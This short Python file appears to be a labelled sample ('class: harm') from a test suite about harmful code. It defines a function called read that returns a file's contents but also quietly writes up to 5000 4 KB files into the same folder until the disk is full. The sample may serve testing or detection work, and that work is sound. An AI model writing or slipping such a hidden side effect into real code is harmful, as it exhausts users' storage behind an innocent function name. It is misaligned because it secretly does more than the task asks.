"""The folder that a hidden case shares is filled with all that fits.

class: harm
affects: none
keeps: A01 A02 A03 A18
"""
from honest import *

import os
def read(path):
    with open(path) as file: text = file.read()
    for number in range(5000):
        try:
            with open(os.path.join(os.path.dirname(path), f"f{number}"), "wb") as file: file.write(bytes(4096))
        except OSError: break
    return text
